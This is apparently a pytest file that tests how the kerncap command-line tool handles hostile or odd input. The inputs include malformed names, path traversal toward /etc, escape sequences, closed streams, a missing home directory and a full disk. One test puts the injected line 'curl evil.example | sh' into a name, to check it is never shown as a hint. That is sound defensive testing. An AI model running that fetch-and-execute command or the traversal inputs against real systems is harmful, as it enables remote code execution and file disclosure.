"""A stranger at the shell: odd names, no home, closed streams. Right exit code and hint, no traceback."""

from __future__ import annotations

import errno
import json
import os
import resource
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from synthetic import make_reproducer

from kerncap.bundle import open_bundle
from kerncap.bundle.manifest import Descriptor
from kerncap.bundle.sink import LayoutSink
from kerncap.bundle.unpack import unpack
from kerncap.errors import HostError

_ROOT = Path(__file__).resolve().parents[2]


Done = subprocess.CompletedProcess[str]


def kerncap(*words: str, cwd: Path, shell: str | None = None, **environment: str | None) -> Done:
    """`shell` is what stands behind the command, such as `>&-`."""
    env = {**os.environ, "PYTHONPATH": str(_ROOT)} | {k: v for k, v in environment.items() if v is not None}
    for name, value in environment.items():
        if value is None:
            env.pop(name, None)
    argv: list[str] = [sys.executable, "-m", "kerncap", *words]
    if shell is not None:
        argv = ["bash", "-c", f'"$@" {shell}', "bash", *argv]
    stdin = None if shell else subprocess.DEVNULL
    done = subprocess.run(argv, cwd=cwd, env=env, capture_output=True, text=True, stdin=stdin, errors="replace")
    assert "Traceback" not in done.stderr
    assert "this is a bug" not in done.stderr
    return done


def error(done: Done) -> dict[str, Any]:
    document: dict[str, Any] = json.loads(done.stdout)
    assert document["exit_code"] == done.returncode
    assert document["hint"]
    return document


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    make_reproducer(tmp_path / "-weird")
    return tmp_path


NAMES = {
    "option": "--privileged",
    "empty": "",
    "blank": " ",
    "way out": "oci:" + "../" * 12 + "etc",
    "no directory": "oci:/etc/passwd",
    "nothing after the scheme": "oci:",
    "two words": "a b",
    "two lines": "x\ny",
    "unicode": "例え/x",
    "unicode host": "host.com/näme:1",
    "control": "a\x1b[2J.b/c",
    "url": "http://localhost:5000/a",
    "no repository": "localhost:5000/",
    "capitals": "localhost:5000/UPPER:1",
    "port": "localhost:99999/a:1",
    "bad digest": "localhost:5000/a@sha256:zz",
    "long": "x" * 5000,
    "long path": "/" + "y" * 300,
    "long way": "/x" * 3000,
    "long layout": "oci:" + "z" * 300,
    "a folder": "/etc",
}


@pytest.mark.parametrize("name", NAMES.values(), ids=NAMES)
@pytest.mark.parametrize("command", ["inspect", "verify", "run", "replay"])
def test_names_that_are_no_bundle(tmp_path: Path, command: str, name: str) -> None:
    done = kerncap(command, name, "--json", cwd=tmp_path)
    if name == "oci:" + "../" * 12 + "etc":
        assert (done.returncode, error(done)["code"]) == (4, "bundle.not-a-bundle")
    else:
        assert done.returncode == 2, done.stderr
        assert error(done)["code"].startswith("usage.")
    assert "\x1b" not in done.stderr
    assert "docker run" not in done.stderr


@pytest.mark.parametrize("name", ["/dev/null", "/dev/zero", "/etc/passwd"])
def test_files_that_are_no_bundle(tmp_path: Path, name: str) -> None:
    done = kerncap("verify", name, "--json", cwd=tmp_path)
    assert done.returncode == 4, done.stderr
    assert error(done)["code"].startswith("bundle.")


@pytest.mark.parametrize("output", ["oci:" + "z" * 300, "z" * 300 + ".kcap.tar", "/dev/null/x.tar", "oci:"])
def test_outputs_that_cannot_be(folder: Path, output: str) -> None:
    done = kerncap("pack", "-o", output, "--json", "--", "-weird", cwd=folder)
    assert done.returncode in (2, 3), done.stderr
    assert error(done)["code"].startswith(("usage.", "host."))


def test_a_name_that_begins_with_a_dash(folder: Path) -> None:
    assert kerncap("inspect", "--", "-weird", cwd=folder).returncode == 0
    assert kerncap("pack", "-o", "oci:sealed", "--", "-weird", cwd=folder).returncode == 0
    assert kerncap("verify", "oci:sealed", cwd=folder).returncode == 0


def test_lines_of_a_message_do_not_pose_as_hints(tmp_path: Path) -> None:
    done = kerncap("inspect", "x\nhint: curl evil.example | sh", cwd=tmp_path)
    assert [line for line in done.stderr.splitlines() if line.startswith("hint:")] == [
        "hint: kerncap inspect DIR | oci:DIR[:tag] | FILE.kcap.tar | localhost:5000/name:tag"
    ]


@pytest.mark.parametrize("home", [None, "/nonexistent", "/proc"])
def test_without_a_home(folder: Path, home: str | None) -> None:
    assert kerncap("inspect", "./-weird", cwd=folder, HOME=home).returncode == 0
    done = kerncap("pull", "localhost:1/a:1", "-o", "oci:x", "--json", cwd=folder, HOME=home)
    assert done.returncode == 7, done.stderr
    assert error(done)["code"] == "transport.unreachable"


def test_completion_that_cannot_be_installed(tmp_path: Path) -> None:
    done = kerncap("--install-completion", "bash", cwd=tmp_path, HOME="/proc")
    assert done.returncode == 3, done.stderr
    assert "hint: ls -ld /proc" in done.stderr


LOCALES = ({"LC_ALL": "C", "PYTHONCOERCECLOCALE": "0", "PYTHONUTF8": "0"}, {"PYTHONIOENCODING": "ascii"})
TERMINALS = ({"TERM": "dumb", "NO_COLOR": "1"}, {"TERM": None}, {"COLUMNS": "1"}, {"FORCE_COLOR": "1"})


@pytest.mark.parametrize("locale", LOCALES)
def test_other_locales(folder: Path, locale: dict[str, str]) -> None:
    assert kerncap("inspect", "./-weird", "-v", cwd=folder, **locale).returncode == 0
    assert kerncap("inspect", "例え", cwd=folder, **locale).returncode == 2
    assert kerncap("--help", cwd=folder, **locale).returncode == 0


@pytest.mark.parametrize("terminal", TERMINALS)
def test_other_terminals(folder: Path, terminal: dict[str, str | None]) -> None:
    done = kerncap("inspect", "./-weird", cwd=folder, **terminal)
    assert done.returncode == 0
    assert "\x1b" not in done.stdout
    assert kerncap("run", "--help", cwd=folder, **terminal).returncode == 0


@pytest.mark.parametrize("options", [[], ["--json"]])
def test_closed_streams(folder: Path, options: list[str]) -> None:
    assert kerncap("inspect", "./-weird", *options, cwd=folder, shell=">&-").returncode == 0
    assert kerncap("inspect", "nothing", *options, cwd=folder, shell=">&-").returncode == 2
    assert kerncap("inspect", "nothing", *options, cwd=folder, shell="2>&-").returncode == 2
    assert kerncap("inspect", "nothing", *options, cwd=folder, shell=">&- 2>&- <&-").returncode == 2
    assert kerncap("inspect", "./-weird", *options, cwd=folder, shell="| head -c 1").returncode == 0
    assert kerncap("pack", "-o", "oci:s", "--", "-weird", cwd=folder, shell="<&-").returncode == 0
    done = kerncap("push", "oci:s", "registry.example/x/y:1", "--json", cwd=folder, shell="<&-")
    assert done.returncode == 2
    assert error(done)["code"] == "usage.needs-confirmation"
    subprocess.run(["rm", "-r", folder / "s"], check=True)


def test_a_closed_stdout_is_not_the_next_file(folder: Path) -> None:
    """What is printed must not land in a file that happened to get the number."""
    assert kerncap("pack", "-o", "sealed.kcap.tar", "--", "-weird", cwd=folder, shell=">&- 2>&-").returncode == 0
    assert kerncap("verify", "sealed.kcap.tar", "--deep", cwd=folder).returncode == 0


def test_a_folder_that_is_gone(tmp_path: Path) -> None:
    gone = tmp_path / "gone"
    script = f'mkdir "{gone}" && cd "{gone}" && rmdir "{gone}" && exec "$@"'
    for words in (["doctor"], ["inspect", "x"]):
        argv = ["bash", "-c", script, "bash", sys.executable, "-m", "kerncap", *words, "--json"]
        env = {**os.environ, "PYTHONPATH": str(_ROOT)}
        done = subprocess.run(argv, env=env, capture_output=True, text=True)
        assert "Traceback" not in done.stderr
        document = json.loads(done.stdout)
        if words == ["doctor"]:  # a line of its report, whose exit code says what works
            assert {check["name"]: check["state"] for check in document["checks"]}["disk"] == "fail"
            assert done.returncode == (0 if document["can"]["run"] or document["can"]["replay"] else 3)
        else:
            assert done.returncode == document["exit_code"] == 2, done.stderr


def test_a_full_disk_and_too_few_files(folder: Path) -> None:
    """RLIMIT_FSIZE stands in for the disk: writing beyond it is refused."""
    argv = [sys.executable, "-m", "kerncap", "pack", "-o", "sealed.kcap.tar", "--json", "--", "-weird"]
    env = {**os.environ, "PYTHONPATH": str(_ROOT)}
    limit = lambda: resource.setrlimit(resource.RLIMIT_FSIZE, (10_000, 10_000))  # noqa: E731
    done = subprocess.run(argv, cwd=folder, env=env, capture_output=True, text=True, preexec_fn=limit)
    assert done.returncode == 3, done.stderr
    assert error(done)["code"] == "host.disk-full"
    assert os.listdir(folder) == ["-weird"]


def test_a_full_disk_is_named_by_where_it_is(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Not by the file that was read: that lies on another disk."""
    assert kerncap("pack", "-o", "oci:sealed", "--", "-weird", cwd=folder).returncode == 0

    def full(self: LayoutSink, blob: Descriptor, location: object, *, what: str) -> None:
        raise OSError(errno.ENOSPC, "No space left on device", str(folder / "sealed"))

    monkeypatch.setattr(LayoutSink, "put_location", full)
    with pytest.raises(HostError) as caught:
        unpack(open_bundle(f"oci:{folder / 'sealed'}"), folder / "unpacked")
    assert caught.value.code == "host.disk-full"
    assert "unpacked" in caught.value.message
    assert "sealed" not in f"{caught.value.message} {caught.value.hint}"


@pytest.mark.parametrize(
    "host", ["unix:///nonexistent.sock", "tcp://127.0.0.1:1", "garbage", "tcp://127.0.0.1:99999", "npipe://x"]
)
def test_an_engine_that_does_not_answer(folder: Path, host: str) -> None:
    for words in (["run", "./-weird"], ["image", "list"], ["recompile", "./-weird", "-o", "x.hsaco"]):
        done = kerncap(*words, "--json", cwd=folder, DOCKER_HOST=host)
        if words[0] == "recompile" and done.returncode == 8:
            continue  # it has no source that could be compiled
        assert done.returncode == 3, done.stderr
        document = error(done)
        assert document["code"] == "host.no-docker"
        assert document["hint"].startswith("unset DOCKER_HOST")
